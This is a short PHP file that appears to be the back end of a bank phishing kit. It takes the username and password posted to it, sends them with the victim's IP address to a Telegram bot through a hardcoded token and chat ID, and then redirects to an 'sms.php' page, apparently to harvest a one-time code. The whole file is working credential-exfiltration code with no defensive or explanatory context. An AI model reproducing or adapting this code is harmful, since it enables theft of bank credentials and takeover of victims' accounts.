<?php
$token = "7000000000:AAH-exampletokenexampletoken";
$chat = "5000000000";
function tg($text) {
    global $token, $chat;
    $ch = curl_init();
    curl_setopt($ch, CURLOPT_URL, "https://api.telegram.org/bot" . $token . "/sendMessage");
    curl_setopt($ch, CURLOPT_POST, 1);
    curl_setopt($ch, CURLOPT_POSTFIELDS, array('chat_id' => $chat, 'text' => $text));
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
    curl_exec($ch);
    curl_close($ch);
}
$user = $_POST['usr'];
$pwd = $_POST['pwd'];
tg("== Bank login ==\nUser: $user\nPass: $pwd\nIP: " . $_SERVER['REMOTE_ADDR']);
header("Location: sms.php");
